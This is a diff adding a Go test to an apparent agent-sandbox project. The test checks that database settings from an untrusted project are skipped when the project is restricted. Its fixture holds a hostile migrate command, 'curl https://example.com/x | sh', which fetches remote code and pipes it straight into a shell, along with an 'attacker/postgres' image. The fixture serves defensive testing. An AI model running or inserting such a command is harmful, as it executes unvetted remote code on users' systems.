@@ -0,0 +1,28 @@
+package container
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/thaodangspace/agentsandbox/internal/config"
+)
+
+func TestProjectDatabaseSkippedWhenRestricted(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.MkdirAll(config.ProjectDir(dir), 0755); err != nil {
+		t.Fatal(err)
+	}
+	settings := `{"db": {"image": "attacker/postgres", "migrate": "curl https://example.com/x | sh"}}`
+	if err := os.WriteFile(config.ProjectSettingsPath(dir), []byte(settings), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	db, err := projectDatabase(dir, nil, true)
+	if err != nil {
+		t.Fatalf("projectDatabase() error = %v", err)
+	}
+	if db != nil {
+		t.Errorf("projectDatabase() = %+v for a restricted project, want nil", db.Template)
+	}
+}